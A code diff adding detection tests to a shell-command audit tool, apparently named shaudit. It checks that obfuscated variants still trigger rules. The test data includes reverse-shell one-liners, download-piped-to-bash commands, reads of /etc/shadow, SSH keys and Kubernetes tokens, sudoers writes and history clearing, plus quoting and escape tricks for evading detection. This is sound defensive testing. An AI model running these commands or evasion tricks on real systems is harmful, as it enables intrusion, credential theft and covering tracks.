@@ -2,6 +2,7 @@
 // The shipped default rules: each fires on what it is about and not on a look-alike.
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <string>
 #include <vector>
 
@@ -57,7 +58,7 @@ std::vector<std::string> fired(const Object& rec, const char* joined = nullptr) 
 using V = std::vector<std::string>;
 
 TEST(DefaultRules, LoadAll) {
-  EXPECT_EQ(rules().rule_count(), 12u);
+  EXPECT_EQ(rules().rule_count(), 13u);
 }
 
 TEST(DefaultRules, WriteBelowEtc) {
@@ -120,6 +121,176 @@ TEST(DefaultRules, PackageInstallInContainer) {
   EXPECT_EQ(fired(typed("apt-get install -y netcat", true)), V{"Package install in a container"});
   EXPECT_EQ(fired(typed("apt-get install -y netcat", false)), V{});  // a host, not a container
   EXPECT_EQ(fired(typed("apt-get update", true)), V{});
+}
+
+// Quoting, escapes, $'..', brace lists and variables do not hide what a line does: each
+// variant fires the named rule (others may fire too: an obfuscated command name is a rule of
+// its own).
+struct Variant {
+  const char* text;
+  const char* rule;
+  bool container = false;
+};
+
+const char* const kEtc = "Write below etc by redirection";
+const char* const kBin = "Write below binary directory by redirection";
+const char* const kShadow = "Read shadow or private keys";
+const char* const kDownload = "Download piped into a shell";
+const char* const kReverse = "Reverse shell one-liner";
+const char* const kHistory = "Clear or disable shell history";
+const char* const kToken = "Read Kubernetes service account token";
+const char* const kPackage = "Package install in a container";
+const char* const kObfuscated = "Command name obfuscated by quoting or expansion";
+
+const Variant kVariants[] = {
+    {R"(echo x >"/etc/x")", kEtc},
+    {R"(echo x >'/etc/passwd')", kEtc},
+    {R"(echo x > \/etc/x)", kEtc},
+    {R"(echo x >"/e"tc/cron.d/x)", kEtc},
+    {R"(echo x >$'\x2fetc/x')", kEtc},
+    {R"(echo x >$'\057etc/x')", kEtc},
+    {R"(echo x > /{etc,tmp}/x)", kEtc},
+    {R"(d=/etc; echo x >> $d/sudoers)", kEtc},
+    {R"(d=etc; echo x >/${d}/cron.d/x)", kEtc},
+    {R"(echo x >//etc/x)", kEtc},
+    {R"(>"/etc/x" echo x)", kEtc},
+    {R"(echo x >"/usr/local/bin/ls")", kBin},
+    {R"(echo x > /usr/'bin'/ls)", kBin},
+    {R"(echo x > /usr/b\in/ls)", kBin},
+    {R"(echo x > $'/usr/\x62in/ls')", kBin},
+    {R"(echo x > /usr/{s,}bin/ls)", kBin},
+    {R"(b=/usr/bin; echo x > $b/ls)", kBin},
+    {R"(cat /etc/"shadow")", kShadow},
+    {R"(cat '/etc/shadow')", kShadow},
+    {R"(cat /etc/sh\adow)", kShadow},
+    {R"(cat $'/etc/\x73hadow')", kShadow},
+    {R"(cat $'/etc/\163hadow')", kShadow},
+    {R"(cat /etc/{passwd,shadow})", kShadow},
+    {R"(f=shadow; cat /etc/$f)", kShadow},
+    {R"(s=/etc/gshadow; cat ${s})", kShadow},
+    {R"(cat ~/.ssh/"id_rsa")", kShadow},
+    {R"(cp ~/.ssh/id_{rsa,ed25519} /tmp)", kShadow},
+    {R"(curl -s http://x |"ba"sh)", kDownload},
+    {R"(curl -s http://x | b'a'sh)", kDownload},
+    {R"(curl -s http://x | ba\sh)", kDownload},
+    {R"(c\url -s http://x | sh)", kDownload},
+    {R"("curl" -s http://x | "sh")", kDownload},
+    {R"(curl -s http://x | $'\x62ash')", kDownload},
+    {R"(curl -s http://x | $'\142ash')", kDownload},
+    {R"(curl -s http://x | {ba,}sh)", kDownload},
+    {R"(a=ba; curl -s http://x | $a"sh")", kDownload},
+    {R"(a=ba; curl -s http://x | ${a}sh)", kDownload},
+    {R"(wget -qO- http://x |sudo  "bash")", kDownload},
+    {R"(curl -s http://x | /bin/"bash")", kDownload},
+    {R"(bash <(cu"rl" -s http://x))", kDownload},
+    {R"x(sh -c "$(curl -fsSL http://x)")x", kDownload},
+    {R"(bash -i >& /dev/"tcp"/10.0.0.1/4444 0>&1)", kReverse},
+    {R"(bash -i >& /dev/tc\p/10.0.0.1/4444 0>&1)", kReverse},
+    {R"(cat < /dev/$'\x74cp'/10.0.0.1/80)", kReverse},
+    {R"(c=tcp; echo > /dev/$c/1.2.3.4/80)", kReverse},
+    {R"(x=dev; exec 3<>/$x/tcp/h/80)", kReverse},
+    {R"(bash -i >& /dev/{tcp,udp}/h/1)", kReverse},
+    {R"(bash -i >& //dev//tcp/h/1)", kReverse},
+    {R"("nc" -e /bin/sh 10.0.0.1 4444)", kReverse},
+    {R"(nc "-e" /bin/sh 10.0.0.1 4444)", kReverse},
+    {R"(n\c -e /bin/sh 10.0.0.1 4444)", kReverse},
+    {R"(ncat --sh-exec "bash" 10.0.0.1 4444)", kReverse},
+    {R"(h"istory" -c)", kHistory},
+    {R"(hist'ory' -c)", kHistory},
+    {R"(his\tory -c)", kHistory},
+    {R"($'\x68istory' -c)", kHistory},
+    {R"(history "-c")", kHistory},
+    {R"(ls; h'istory' -c)", kHistory},
+    {R"(H=hist; ${H}ory -c)", kHistory},
+    {R"(unset "HISTFILE")", kHistory},
+    {R"(unset HIST\FILE)", kHistory},
+    {R"(export HISTFILE="/dev/null")", kHistory},
+    {R"(HISTSIZE='0')", kHistory},
+    {R"(rm -f ~/.bash"_history")", kHistory},
+    {R"(set +o "history")", kHistory},
+    {R"(cat /var/run/secrets/kubernetes.io/"serviceaccount"/token)", kToken},
+    {R"(cat /var/run/secrets/kubernetes.io/service\account/token)", kToken},
+    {R"(d=/var/run/secrets/kubernetes.io; cat $d/serviceaccount/token)", kToken},
+    {R"(cat /run/secrets/kubernetes.io/serviceaccount/{token,ca.crt})", kToken},
+    {R"(cat $'/var/run/secrets/kubernetes.io/serviceaccount/\x74oken')", kToken},
+    {R"(apt-get "install" -y netcat)", kPackage, true},
+    {R"("apt-get" install netcat)", kPackage, true},
+    {R"(apt-get inst\all netcat)", kPackage, true},
+    {R"(apt-get -y $'install' netcat)", kPackage, true},
+    {R"(i=install; apk $i curl)", kPackage, true},
+    {R"(pip {install,-q} requests)", kPackage, true},
+    {R"(h"istory" -c)", kObfuscated},
+    {R"(c\url -s http://x)", kObfuscated},
+    {R"($'\x62ash' -i)", kObfuscated},
+    {R"(a=ba; $a"sh" -i)", kObfuscated},
+    {R"(ba$x -i)", kObfuscated},
+};
+
+TEST(DefaultRules, QuotedEscapedAndSplitVariantsFire) {
+  size_t missed = 0;
+  for (const auto& v : kVariants) {
+    auto names = fired(typed(v.text, v.container));
+    bool hit = std::find(names.begin(), names.end(), v.rule) != names.end();
+    if (!hit) ++missed;
+    EXPECT_TRUE(hit) << v.text << " did not fire " << v.rule;
+  }
+  EXPECT_EQ(missed, 0u) << "of " << std::size(kVariants);
+}
+
+TEST(DefaultRules, VariablesOfTheSessionAndJoinedLines) {
+  shaudit::shell::Vars session{{"p", "/dev/tcp"}, {"a", "ba"}};
+  shaudit::rules::EvalContext ctx;
+  ctx.shell_vars = &session;
+  auto names = [&](const Object& rec) {
+    std::vector<std::string> n;
+    for (const auto& m : rules().evaluate(rec, ctx)) n.push_back(m.rule);
+    return n;
+  };
+  EXPECT_EQ(names(typed("cat < $p/10.0.0.1/80")), V{kReverse});
+  EXPECT_EQ(names(typed("curl -s http://x | ${a}sh")), (V{kDownload, kObfuscated}));
+  // A command split over lines, quoted on its second: the joined command matches.
+  Object last = typed("| \"ba\"sh");
+  last["continuation"] = true;
+  ctx.cmd_text = "curl http://x.example/i.sh \\\n| \"ba\"sh";
+  EXPECT_EQ(names(last), (V{kDownload, kObfuscated}));
+}
+
+// Ordinary lines, some mentioning what the rules look for as data: no rule fires.
+TEST(DefaultRules, OrdinaryLinesDoNotFire) {
+  const char* const kLines[] = {
+      R"(echo "history -c is bad")",
+      R"(grep 'unset HISTFILE' notes.txt)",
+      R"(git commit -m "history -c, then set +o history")",
+      "history | tail",
+      "history 20",
+      "echo $HISTFILE",
+      "cat /etc/hosts > /tmp/hosts",
+      "grep x < /etc/passwd",
+      "ls /usr/bin > list.txt",
+      "cat ~/.ssh/id_ed25519.pub",
+      "cat /etc/passwd",
+      "ls -l /etc/shadowsocks",
+      "nc -zv 10.0.0.1 22",
+      "curl -o file https://x.example/i.sh",
+      "curl -s http://x | jq .",
+      "cat notes | shasum",
+      "ssh host 'ls /etc'",
+      R"("ls" -l)",
+      R"(\ls -l)",
+      "$EDITOR notes.txt",
+      R"("$HOME"/bin/tool --help)",
+      "$HOME/bin/tool",
+      "./configure --prefix=/usr && make -j4",
+      R"(for f in *.c; do gcc -c "$f"; done)",
+      R"(export PATH="$HOME/bin:$PATH")",
+      R"(python3 -c 'print("a > /tmp/x")')",
+      "ls /var/run/secrets",
+      "apt-get install -y netcat",  // a host, not a container
+      "cat <<EOF > /tmp/notes\nremember: rm -f ~/.bash_history is logged\nEOF",
+  };
+  for (const char* l : kLines) EXPECT_EQ(fired(typed(l)), V{}) << l;
+  EXPECT_EQ(fired(typed("apt-get update", true)), V{});
+  EXPECT_EQ(fired(typed("pip list", true)), V{});
 }
 
 TEST(DefaultRules, EveryBypassKind) {
